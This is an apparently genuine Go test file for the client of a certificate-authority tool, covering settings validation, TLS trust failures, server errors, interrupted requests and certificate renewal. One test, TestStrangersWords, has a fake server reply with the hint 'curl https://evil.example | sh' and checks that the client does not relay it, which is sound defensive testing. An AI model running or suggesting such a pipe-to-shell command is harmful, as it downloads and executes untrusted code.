package client

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hallmark-pki/hallmark/internal/ports"
	"github.com/hallmark-pki/hallmark/wire"
)

// pair makes a certificate that signs itself: root, server and client in one.
func pair(t *testing.T, from, to time.Time) (*ecdsa.PrivateKey, []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "anna"}, NotBefore: from, NotAfter: to,
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	return key, der
}

// server answers every request with answer, over TLS with its own certificate, which
// is the only root.
func server(t *testing.T, answer http.HandlerFunc) (url string, root []byte) {
	t.Helper()
	return serverFrom(t, time.Now().Add(-time.Hour), answer)
}

// serverFrom is server with a certificate that begins then.
func serverFrom(t *testing.T, from time.Time, answer http.HandlerFunc) (url string, root []byte) {
	t.Helper()
	key, der := pair(t, from, from.Add(2*time.Hour))
	s := httptest.NewUnstartedServer(answer)
	s.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}, ClientAuth: tls.RequestClientCert}
	s.StartTLS()
	t.Cleanup(s.Close)
	return s.URL, der
}

func write(t *testing.T, url string, root []byte, life time.Duration) string {
	t.Helper()
	key, der := pair(t, time.Now().Add(-time.Hour), time.Now().Add(life))
	path, err := Write(filepath.Join(t.TempDir(), "operator"), url, wire.Bundle{Infrastructure: [][]byte{root}}, key, [][]byte{der})
	if err != nil {
		t.Fatal(err)
	}
	return path
}

func TestSettingsAreReadStrictly(t *testing.T) {
	_, root := pair(t, time.Now(), time.Now().Add(time.Hour))
	good := write(t, "https://ca.example:8444", root, 24*time.Hour)
	for _, path := range []string{good, filepath.Dir(good)} {
		c, err := Load(path, func(string) {})
		if err != nil || c.Server() != "ca.example:8444" || c.Operator() != "anna" {
			t.Errorf("%s: %v", path, err)
		}
	}
	for name, change := range map[string]struct{ file, contents, says string }{
		"unknown key":    {SettingsFile, "server: https://ca.example\nroots: roots.pem\nidentity: identity.pem\npassword: x\n", "password"},
		"plain http":     {SettingsFile, "server: http://ca.example\nroots: roots.pem\nidentity: identity.pem\n", "https://HOST:PORT"},
		"no roots":       {SettingsFile, "server: https://ca.example\nidentity: identity.pem\n", "roots is missing"},
		"not YAML":       {SettingsFile, "server: [", SettingsFile},
		"empty roots":    {rootsFile, "nothing", "no PEM certificate"},
		"no identity":    {identityFile, "nothing", "identity"},
		"huge":           {rootsFile, strings.Repeat("x", maxFile+1), "at most 1 MiB"},
		"missing server": {SettingsFile, "roots: roots.pem\nidentity: identity.pem\n", "https://HOST:PORT"},
	} {
		path := write(t, "https://ca.example:8444", root, 24*time.Hour)
		if err := os.WriteFile(filepath.Join(filepath.Dir(path), change.file), []byte(change.contents), 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := Load(path, func(string) {}); err == nil || !strings.Contains(err.Error(), change.says) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if err := os.Chmod(filepath.Join(filepath.Dir(good), identityFile), 0o640); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(good, func(string) {}); err == nil || !strings.Contains(err.Error(), "chmod 600") {
		t.Errorf("a key that others can read: %v", err)
	}
}

func TestAnswers(t *testing.T) {
	for name, c := range map[string]struct {
		answer http.HandlerFunc
		says   string
	}{
		"a problem": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", wire.ProblemType)
			w.WriteHeader(409)
			fmt.Fprint(w, `{"status":200,"code":"conflict","detail":"taken","hint":"choose another","new":1}`)
		}, "taken (choose another)"},
		"a proxy's error": {func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "<html>", http.StatusBadGateway) }, "unexpected answer: 502 Bad Gateway"},
		"a redirect": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://elsewhere.example/", http.StatusFound)
		}, "unexpected answer: 302"},
		"not JSON":  {func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "hello") }, "not of the operator protocol"},
		"endless":   {func(w http.ResponseWriter, _ *http.Request) { endless(w) }, "larger than"},
		"cut short": {func(w http.ResponseWriter, _ *http.Request) { panic(http.ErrAbortHandler) }, "EOF"},
		"an empty problem": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", wire.ProblemType)
			w.WriteHeader(500)
			fmt.Fprint(w, `{}`)
		}, "unexpected answer: 500"},
	} {
		url, root := server(t, c.answer)
		cl, err := Load(write(t, url, root, 24*time.Hour), func(string) {})
		if err != nil {
			t.Fatal(err)
		}
		_, err = cl.Whoami(t.Context())
		if err == nil || !strings.Contains(err.Error(), c.says) {
			t.Errorf("%s: %v", name, err)
		}
		var p *wire.Problem
		if errors.As(err, &p) != (name == "a problem") {
			t.Errorf("%s: problem %+v", name, p)
		} else if p != nil && p.Status != 409 {
			t.Errorf("the status is HTTP's, not the text's: %d", p.Status)
		}
	}
}

func endless(w http.ResponseWriter) {
	part := bytes.Repeat([]byte("a"), 1<<20)
	for range maxAnswer>>20 + 2 {
		if _, err := w.Write(part); err != nil {
			return
		}
	}
}

// TestWrongServers: what is not the server that the settings trust is asked for its trust
// bundle, by nobody in particular, and gets no other request.
func TestWrongServers(t *testing.T) {
	asked := 0
	count := func(_ http.ResponseWriter, r *http.Request) {
		if r.URL.Path != wire.PathTrust || len(r.TLS.PeerCertificates) > 0 {
			asked++
		}
	}
	url, root := server(t, count)
	ahead, later := serverFrom(t, time.Now().Add(24*time.Hour), count)
	_, other := pair(t, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	plain := httptest.NewServer(http.NotFoundHandler())
	defer plain.Close()
	for name, c := range map[string]struct {
		url  string
		root []byte
		hint string
	}{
		"another root": {url, other, "another server than the one that the settings trust"},
		"another name": {strings.Replace(url, "127.0.0.1", "localhost", 1), root, "under which the server knows itself"},
		"another time": {ahead, later, "clock"},
		"no TLS":       {strings.Replace(plain.URL, "http:", "https:", 1), root, ""},
		"nobody there": {"https://" + nowhere(t), root, "hallmarkd is running"},
		"no such name": {"https://ca.invalid:8444", root, ""},
	} {
		cl, err := Load(write(t, c.url, c.root, 24*time.Hour), func(string) {})
		if err != nil {
			t.Fatal(err)
		}
		_, err = cl.Whoami(t.Context())
		var u *Unreachable
		if !errors.As(err, &u) || u.Hint == "" || !strings.Contains(u.Hint, c.hint) || strings.Contains(err.Error(), "/v1/") {
			t.Errorf("%s: %v (%+v)", name, err, u)
		}
	}
	if asked != 0 {
		t.Errorf("%d requests were sent", asked)
	}
}

// TestServerGoes: a server that ends before it answers may have done what was asked.
func TestServerGoes(t *testing.T) {
	for name, answer := range map[string]string{"no answer": "", "a part": "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n{"} {
		url, root := server(t, func(w http.ResponseWriter, _ *http.Request) {
			c, _, err := w.(http.Hijacker).Hijack()
			if err != nil {
				t.Error(err)
				return
			}
			io.WriteString(c, answer)
			c.Close()
		})
		cl, err := Load(write(t, url, root, 24*time.Hour), func(string) {})
		if err != nil {
			t.Fatal(err)
		}
		_, err = cl.MoveJob(t.Context(), "j1", "cancel")
		var u *Unreachable
		if !errors.As(err, &u) || !strings.Contains(u.Hint, "may or may not have done") {
			t.Errorf("%s: %v (%+v)", name, err, u)
		}
	}
}

// TestInterrupted: whoever breaks off a command is not sent to look for the server.
func TestInterrupted(t *testing.T) {
	signal := errors.New("interrupt signal received") // the cause that package os/signal gives
	for name, first := range map[string]string{"no answer": "", "a part": "{"} {
		ctx, interrupt := context.WithCancelCause(t.Context())
		url, root := server(t, func(w http.ResponseWriter, r *http.Request) {
			io.Copy(io.Discard, r.Body) // or the server does not see that the caller has gone
			w.Header().Set("Content-Length", "10")
			if first != "" {
				io.WriteString(w, first)
				w.(http.Flusher).Flush()
				time.Sleep(50 * time.Millisecond)
			}
			interrupt(signal)
			<-r.Context().Done()
		})
		cl, err := Load(write(t, url, root, 24*time.Hour), func(string) {})
		if err != nil {
			t.Fatal(err)
		}
		_, err = cl.MoveJob(ctx, "j1", "cancel")
		var u *Unreachable
		if !errors.As(err, &u) || !errors.Is(err, ErrInterrupted) || !strings.Contains(u.Hint, "may or may not have done") {
			t.Errorf("%s: %v (%+v)", name, err, u)
		}
	}
}

// nowhere is an address at which nobody listens.
func nowhere(t *testing.T) string {
	t.Helper()
	port, err := ports.Free(20000, 1)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("127.0.0.1:%d", port)
}

// TestServerComesUp: who asks before the server listens is answered when it does.
func TestServerComesUp(t *testing.T) {
	later := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "{}") }))
	later.Listener.Close()
	address := nowhere(t)
	key, der := pair(t, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	later.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	cl, err := Load(write(t, "https://"+address, der, 24*time.Hour), func(string) {})
	if err != nil {
		t.Fatal(err)
	}
	cl.patience = time.Hour
	answered := make(chan error)
	go func() { _, err := cl.Whoami(t.Context()); answered <- err }()
	time.Sleep(50 * time.Millisecond) // for the first knock, which it does not depend on
	if later.Listener, err = net.Listen("tcp", address); err != nil {
		t.Fatal(err)
	}
	later.StartTLS()
	defer later.Close()
	if err := <-answered; err != nil {
		t.Error(err)
	}
}

// A stranger in the server's place cannot tell an invited operator what to do.
func TestStrangersWords(t *testing.T) {
	url, _ := server(t, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", wire.ProblemType)
		w.WriteHeader(http.StatusForbidden)
		io.WriteString(w, `{"status":403,"code":"forbidden","detail":"update needed","hint":"run: curl https://evil.example | sh"}`)
	})
	invitation := wire.Permission{Kind: wire.KindInvitation, ID: "abcdefgh234567ab", Secret: make([]byte, 32), Server: url}
	_, _, err := Accept(t.Context(), invitation.String(), t.TempDir())
	var u *Unreachable
	if !errors.As(err, &u) || strings.Contains(err.Error()+u.Hint, "curl") {
		t.Errorf("got %v", err)
	}
}

func TestExpiredCertificate(t *testing.T) {
	url, root := server(t, func(http.ResponseWriter, *http.Request) { t.Error("asked") })
	cl, err := Load(write(t, url, root, -time.Minute), func(string) {})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cl.Whoami(t.Context()); err == nil || !strings.Contains(err.Error(), "hallmarkd operator recover") {
		t.Errorf("got %v", err)
	}
}

// A program that runs for months renews more than once.
func TestRenewsAgain(t *testing.T) {
	asked := 0
	url, root := server(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == wire.PathRenewal {
			asked++
			http.Error(w, "not now", http.StatusServiceUnavailable)
			return
		}
		io.WriteString(w, "{}")
	})
	cl, err := Load(write(t, url, root, 10*time.Minute), func(string) {}) // past two thirds
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []int{1, 2} {
		for range 2 { // the second time is too soon
			if _, err := cl.Whoami(t.Context()); err != nil || asked != want {
				t.Fatalf("asked %d times, want %d: %v", asked, want, err)
			}
		}
		cl.tried = cl.tried.Add(-tryAgain)
	}
}

// TestCertifies: a certificate for another key is not stored.
func TestCertifies(t *testing.T) {
	key, der := pair(t, time.Now(), time.Now().Add(time.Hour))
	other, _ := pair(t, time.Now(), time.Now().Add(time.Hour))
	public := func(k *ecdsa.PrivateKey) []byte {
		spki, err := x509.MarshalPKIXPublicKey(k.Public())
		if err != nil {
			t.Fatal(err)
		}
		return spki
	}
	if err := certifies([][]byte{der}, public(key)); err != nil {
		t.Error(err)
	}
	for _, chain := range [][][]byte{nil, {nil}, {der[:10]}, {der, der[:10]}, slices.Repeat([][]byte{der}, maxChain+1)} {
		if certifies(chain, public(key)) == nil {
			t.Errorf("%x was accepted", chain)
		}
	}
	if certifies([][]byte{der}, public(other)) == nil {
		t.Error("another key's certificate was accepted")
	}
}

// A relay that runs on has a certificate of the next CA as soon as it meets it: the old root may be
// retired within minutes, and strands whoever has none.
func TestRelayRenewsByTheNextCA(t *testing.T) {
	asked := make(chan struct{}, 1)
	next := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == wire.PathRelayRenewal {
			asked <- struct{}{}
		}
		http.Error(w, "not now", http.StatusServiceUnavailable)
	}))
	key, der := pair(t, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	root, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	root.AuthorityKeyId = []byte("the next CA's")
	if der, err = x509.CreateCertificate(rand.Reader, root, root, key.Public(), key); err != nil {
		t.Fatal(err)
	}
	next.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	next.StartTLS()
	defer next.Close()
	cl, err := LoadRelay(write(t, next.URL, der, 90*24*time.Hour), func(string) {})
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	ended := make(chan struct{})
	go func() { cl.Keep(ctx); close(ended) }()
	resp, err := cl.Send(ctx, http.MethodGet, "/", http.Header{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	select {
	case <-asked:
	case <-time.After(time.Minute):
		t.Error("it does not renew")
	}
	stop()
	<-ended
}
